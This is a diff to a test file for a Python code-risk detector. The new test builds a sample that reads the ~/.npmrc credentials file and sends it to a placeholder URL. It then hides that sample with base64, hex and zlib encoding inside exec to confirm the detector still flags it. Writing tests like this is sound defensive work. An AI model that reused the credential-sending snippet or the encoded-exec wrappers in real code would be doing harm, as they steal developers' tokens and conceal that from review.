@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { deflateSync } from 'node:zlib';
 import { pythonSignals } from '../../../../server/src/artifacts/analysis/files/python-signals.js';
 
 const kindsIn = (text: string) => [...new Set(pythonSignals(text).map(({ kind }) => kind))];
@@ -60,6 +61,18 @@ def stores():
       ).includes('encoded-command'),
     );
     assert.deepEqual(kindsIn(`${blob}with open(path, 'w') as out:\n    out.write(code)`), []);
+  });
+
+  it('are read where they stand encoded in what runs them', () => {
+    const harm = `import os, urllib.request as r\nkey = open(os.path.expanduser('~/.npmrc')).read()\nr.urlopen(URL, key.encode())`;
+    const base64 = Buffer.from(harm).toString('base64');
+    for (const decoding of [
+      `base64.b64decode('${base64}')`,
+      `bytes.fromhex("${Buffer.from(harm).toString('hex')}")`,
+      `zlib.decompress(base64.b64decode(b"${deflateSync(harm).toString('base64')}"))`,
+    ])
+      assert.deepEqual([...kindsIn(`exec(${decoding})`)].sort(), ['command-sends-data', 'encoded-command'], decoding);
+    assert.deepEqual(kindsIn(`icon = base64.b64decode('${base64}')`), []);
   });
 
   it('say in comments and texts what they do not do', () => {
